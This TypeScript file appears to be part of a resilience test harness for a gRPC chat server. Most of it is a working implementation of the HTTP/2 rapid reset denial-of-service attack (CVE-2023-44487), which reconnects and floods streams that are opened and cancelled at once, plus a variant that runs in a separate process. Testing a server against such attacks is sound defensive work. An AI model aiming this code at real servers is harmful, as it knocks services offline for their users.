import { fork } from "node:child_process";
import * as http2 from "node:http2";
import * as net from "node:net";
import { create, toBinary } from "@bufbuild/protobuf";
import { SendRequestSchema } from "../../gen/chat/v1/chat_pb.js";
import { grpcFrame } from "../load/grpc-h2.js";
import { type Abuse, stopper, Tally } from "./tally.js";

const CODE_NAMES = new Map(
  Object.entries(http2.constants)
    .filter(([name]) => name.startsWith("NGHTTP2_") && !name.includes("_ERR_"))
    .map(([name, value]) => [value as number, name.slice("NGHTTP2_".length)]),
);

/**
 * The reconnecting rapid reset of 2023 (CVE-2023-44487 and its follow-ups):
 * on one connection after another from `localAddress`, open Send streams
 * as fast as possible, each HEADERS + DATA (a whole request, not
 * half-closed) + RST_STREAM(CANCEL), until the server sends GOAWAY; then
 * reconnect at once. The tally counts connections, streams reset, and each
 * GOAWAY by code and reason.
 */
export function rapidResetAttack(url: string, localAddress: string): Abuse {
  const tally = new Tally(
    `reconnecting rapid reset (Send HEADERS+DATA+RST_STREAM, from ${localAddress})`,
  );
  const stop = stopper();
  const frame = grpcFrame(
    toBinary(
      SendRequestSchema,
      create(SendRequestSchema, { room: "soak-reset", author: "attacker", text: "x" }),
    ),
  );
  const headers = {
    ":method": "POST",
    ":path": "/chat.v1.ChatService/Send",
    "content-type": "application/grpc",
    te: "trailers",
  };
  const oneConnection = () =>
    new Promise<void>((resolve) => {
      const { hostname, port } = new URL(url);
      const session = http2.connect(url, {
        createConnection: () => net.connect({ host: hostname, port: Number(port), localAddress }),
      });
      tally.add("connections");
      session.on("error", () => undefined);
      session.on("goaway", (code: number, _last: number, data?: Buffer) => {
        const reason = data && data.length > 0 ? `: ${data.toString()}` : "";
        tally.add(`GOAWAY ${CODE_NAMES.get(code) ?? code}${reason}`);
      });
      session.once("close", () => resolve());
      session.once("connect", async () => {
        while (!session.closed && !session.destroyed && !stop.signal.aborted) {
          // A burst, then a turn of the event loop for the frames to go out
          // and the server's GOAWAY to come in.
          for (let i = 0; i < 50 && !session.closed && !session.destroyed; i++) {
            try {
              const stream = session.request(headers);
              stream.on("error", () => undefined);
              stream.write(frame);
              stream.close(http2.constants.NGHTTP2_CANCEL);
              tally.add("streams reset");
            } catch {
              break;
            }
          }
          await new Promise((r) => setImmediate(r));
        }
        session.destroy();
      });
    });
  const running = (async () => {
    while (!stop.signal.aborted) await oneConnection();
  })();
  return {
    tally,
    async stop() {
      stop.abort();
      await running;
    },
  };
}

/**
 * rapidResetAttack in a process of its own (rapid-reset-process.ts), so that
 * its busy loop does not slow the normal clients it is measured against.
 * Resolves once the attack has begun (the process loaded first, so its
 * start-up is not counted as the attack's cost).
 */
export async function rapidResetInProcess(url: string, localAddress: string): Promise<Abuse> {
  const child = fork(new URL("./rapid-reset-process.ts", import.meta.url), [url, localAddress], {
    execArgv: ["--import", "tsx"],
    stdio: ["ignore", "inherit", "inherit", "ipc"],
  });
  await new Promise<void>((resolve, reject) => {
    child.once("error", reject);
    child.once("message", () => resolve());
  });
  child.send("start");
  const tally = new Tally(
    `reconnecting rapid reset (Send HEADERS+DATA+RST_STREAM, from ${localAddress})`,
  );
  return {
    tally,
    stop: () =>
      new Promise<void>((resolve, reject) => {
        child.once("error", reject);
        child.once("message", (entries: [string, number][]) => {
          for (const [outcome, n] of entries) tally.add(outcome, n);
          child.once("exit", () => resolve());
        });
        child.send("stop");
      }),
  };
}
